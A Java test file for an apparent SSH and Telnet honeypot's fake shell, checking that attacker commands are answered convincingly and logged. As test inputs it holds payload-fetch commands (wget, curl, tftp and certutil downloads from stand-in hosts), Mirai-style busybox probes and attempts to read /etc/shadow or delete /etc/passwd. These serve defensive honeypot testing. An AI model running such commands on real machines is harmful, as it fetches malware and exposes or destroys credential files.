package org.sundew.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sundew.event.Note;
import org.sundew.event.Observation;
import org.sundew.event.Payload;
import org.sundew.event.Severity;

class CommandsTest {
    private static final String ABC = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

    @Test
    void agreesWithThePersona() {
        assertThat(Booth.root("uname -a"))
                .isEqualTo(
                        "Linux srv01 6.1.0-39-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.148-1 (2025-08-26) x86_64 GNU/Linux\n");
        assertThat(Booth.root("hostname -f; cat /etc/hostname")).isEqualTo("srv01.example.com\nsrv01\n");
        assertThat(Booth.root("uptime")).contains(" up 19 days,  1:06,  1 user");
        assertThat(Booth.root("id deploy; grep deploy /etc/passwd | cut -d: -f3"))
                .isEqualTo("uid=1000(deploy) gid=1000(deploy) groups=1000(deploy)\n1000\n");
        assertThat(Booth.root("cat /proc/uptime")).startsWith("16455");
        assertThat(Booth.root("nproc; grep -c ^processor /proc/cpuinfo")).isEqualTo("2\n2\n");
    }

    @Test
    void namesTheMirrorOfItsOwnDomain() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");
        booth.type("apt update").elapse(Duration.ofSeconds(10));

        assertThat(booth.read()).contains("""
                        Err:1 http://mirror.example.com/debian bookworm InRelease
                          Temporary failure resolving 'mirror.example.com'
                        Err:2 http://mirror.example.com/debian bookworm-updates InRelease
                        """);
    }

    @Test
    void answersWhatBotsAsk() {
        assertThat(Booth.root("/bin/busybox ECCHI")).isEqualTo("ECCHI: applet not found\n");
        assertThat(Booth.at(Booth.ROUTER, "root")
                        .shown("enable; system; /bin/busybox MIRAI; cat /proc/mounts | head -1"))
                .isEqualTo("""
                        -ash: enable: not found
                        -ash: system: not found
                        MIRAI: applet not found
                        /dev/root /rom squashfs ro,relatime 0 0
                        """);
        assertThat(Booth.root("dd bs=20 count=1 if=/bin/echo 2>/dev/null | hexdump | head -1"))
                .startsWith("0000000 457f 464c 0102 0001");
        assertThat(Booth.root("dd bs=20 count=1 if=/bin/echo 2>/dev/null | hexdump | tail -2"))
                .startsWith("0000010 0003 003e ")
                .endsWith("\n0000014\n");
    }

    @Test
    void tellsWhatWasToBeFetchedAndFailsAsBehindAFirewall() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");
        booth.type("wget http://192.0.2.9/bins.sh; curl -O http://evil.example/x; tftp -g -r m 192.0.2.9");

        assertThat(booth.reports().stream()
                        .filter(each -> each.action().equals("download"))
                        .map(each -> each.notes().get(0)))
                .containsExactly(
                        new Note(Note.URL, "http://192.0.2.9/bins.sh"), new Note(Note.URL, "http://evil.example/x"));
        assertThat(booth.raised()).isEqualTo(Severity.HIGH);
        assertThat(booth.read()).doesNotContain("timed out");
        assertThat(booth.elapse(Duration.ofSeconds(20)).read()).contains("failed: Connection timed out.");
        assertThat(booth.elapse(Duration.ofSeconds(5)).read())
                .contains(
                        "curl: (6) Could not resolve host: evil.example\n",
                        "tftp: command not found",
                        "root@srv01:~# ");
    }

    @Test
    void capturesWhatIsWritten() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");
        booth.type("echo -ne '\\x61\\x62' > /tmp/x; echo -ne c >> /tmp/x; chmod +x /tmp/x");

        assertThat(booth.reports()).contains(Observation.upload("/tmp/x", ABC, Payload.of("abc")));

        booth.type("printf abc > y").shell().close();
        assertThat(booth.reports()).contains(Observation.upload("/root/y", ABC, Payload.of("abc")));
        assertThat(booth.actions()).filteredOn("upload"::equals).hasSize(2);
    }

    @Test
    void refusesProgramsForOtherMachinesOnly() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");
        booth.type(
                        "cp /bin/ls /tmp/own; printf '\\x7fELF\\1\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0\\x28\\0' > /tmp/arm; chmod 755 /tmp/arm")
                .read();

        assertThat(booth.shown("/tmp/arm"))
                .isEqualTo("-bash: /tmp/arm: cannot execute binary file: Exec format error\n");
        assertThat(booth.shown("cd /tmp; ./own")).contains("arm");
    }

    @Test
    void knowsWhoMayDoWhat() {
        Booth booth = Booth.at(Booth.DEBIAN, "deploy");

        assertThat(booth.shown("cat /etc/shadow")).isEqualTo("cat: /etc/shadow: Permission denied\n");
        assertThat(booth.shown("touch /etc/x; rm /etc/passwd"))
                .isEqualTo(
                        "touch: cannot touch '/etc/x': Permission denied\nrm: cannot remove '/etc/passwd': Permission denied\n");
        assertThat(booth.type("sudo id").read()).isEqualTo("[sudo] password for deploy: ");
        assertThat(booth.shell().echo()).isFalse();
        assertThat(booth.shown("hunter2")).isEqualTo("\nuid=0(root) gid=0(root) groups=0(root)\n");
        assertThat(booth.reports()).contains(Observation.login("deploy", "hunter2", true));
    }

    @Test
    void tellsNewPasswords() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");
        booth.type("passwd").type("n3w").type("n3w");
        booth.type("echo 'root:other' | chpasswd");

        assertThat(booth.reports())
                .contains(
                        Observation.of("password-change", new Note(Note.USER, "root"), new Note(Note.PASSWORD, "n3w")),
                        Observation.of(
                                "password-change", new Note(Note.USER, "root"), new Note(Note.PASSWORD, "other")));
    }

    @Test
    void takesTimeWithoutHoldingAnybodyUp() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");

        assertThat(booth.type("echo a; sleep 5; echo b").read()).isEqualTo("a\n");
        assertThat(booth.elapse(Duration.ofMillis(4_999)).read()).isEmpty();
        assertThat(booth.elapse(Duration.ofMillis(1)).read()).isEqualTo("b\nroot@srv01:~# ");
    }

    @Test
    void hearsCtrlC() {
        Booth booth = Booth.at(Booth.DEBIAN, "root");
        booth.type("sleep 500; echo no").type("echo later");
        booth.shell().interrupt();

        assertThat(booth.read()).isEqualTo("^C\nroot@srv01:~# ");
        assertThat(booth.elapse(Duration.ofMinutes(20)).read()).isEmpty();
        assertThat(booth.shown("echo $?")).isEqualTo("130\n");
    }

    @Test
    void reportsEachLineAsItWasTyped() {
        Booth booth = Booth.at(Booth.DEBIAN, "root").type("ls;  id").type("  ");

        assertThat(booth.reports()).containsExactly(Observation.command("ls;  id"));
    }

    @Test
    void runsOneCommandForAnExec() {
        Booth booth = Booth.without(Booth.DEBIAN, "root");
        booth.shell().execute("cat; ls /nope", "given");

        assertThat(booth.read()).startsWith("given");
        assertThat(booth.errors()).isEqualTo("ls: cannot access '/nope': No such file or directory\n");
        assertThat(booth.status()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"gnu", "busybox"})
    void everyCommandBearsAnyWords(String kind) {
        Machine machine = kind.equals("gnu") ? Booth.DEBIAN : Booth.ROUTER;
        for (String name : kind.equals("gnu") ? Applets.gnu() : Applets.busybox()) {
            for (String words : new String[] {
                "", " -h", " -a -l -n", " x y z", " /etc/passwd", " -c", " -", " --", " 1 2", " -n -1 /etc"
            }) {
                Booth booth = Booth.at(machine, "root");
                booth.type("echo in | " + name + words).elapse(Duration.ofMinutes(11));
                booth.type(name + words).elapse(Duration.ofMinutes(11)).shell().interrupt();
                assertThat(booth.read()).as(name + words).isNotNull();
            }
        }
    }

    @Test
    void speaksCmd() {
        Booth booth = Booth.at(Booth.WINDOWS, "Administrator");

        assertThat(booth.type("whoami").read()).isEqualTo("srv01\\administrator\n\nC:\\Users\\Administrator>");
        assertThat(booth.type("cd \\windows & cd").read()).isEqualTo("C:\\Windows\n\nC:\\Windows>");
        assertThat(booth.type("foo").read())
                .startsWith(
                        "'foo' is not recognized as an internal or external command,\noperable program or batch file.\n");
        assertThat(booth.type("dir").read()).contains(" Directory of C:\\Windows", "<DIR>          System32");
        booth.type("certutil -urlcache -f http://192.0.2.9/a.exe a.exe")
                .type("echo abc> x.txt")
                .type("exit");
        booth.shell().close();
        assertThat(booth.actions()).contains("download", "upload");
        assertThat(booth.status()).isZero();
    }
}
